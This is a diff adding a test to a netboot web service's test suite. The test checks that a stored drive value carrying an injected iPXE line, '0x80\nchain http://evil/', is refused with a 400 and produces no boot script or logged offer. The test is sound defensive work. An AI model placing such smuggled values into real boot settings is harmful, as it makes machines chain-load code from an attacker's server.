@@ -146,6 +146,23 @@ describe('bty-web open plane', () => {
     expect(after).not.toContain('kernel ');
   });
 
+  it('a stored value the renderer refuses: 400, and no offer is logged for it', async () => {
+    const mac = '52:54:00:00:aa:04';
+    await get(`/pxe/${mac}`);
+    // Written behind the API's back (the API normalises drives): not a BIOS drive number.
+    await database.db
+      .updateTable('machines')
+      .set({ boot_mode: 'ipxe-exit', sanboot_drive: '0x80\nchain http://evil/' })
+      .where('mac', '=', mac)
+      .execute();
+    const before = await listEvents(database.db, { kind: 'netboot.pxe.offered', subjectId: mac });
+    const res = await get(`/pxe/${mac}`);
+    expect(res.status).toBe(400);
+    expect(await res.text()).not.toMatch(/^#!ipxe/);
+    const after = await listEvents(database.db, { kind: 'netboot.pxe.offered', subjectId: mac });
+    expect(after).toHaveLength(before.length);
+  });
+
   it('/boot serves ranges and refuses traversal and unknown files', async () => {
     const part = await get('/boot/vmlinuz', { headers: { range: 'bytes=10-' } });
     expect(part.status).toBe(206);
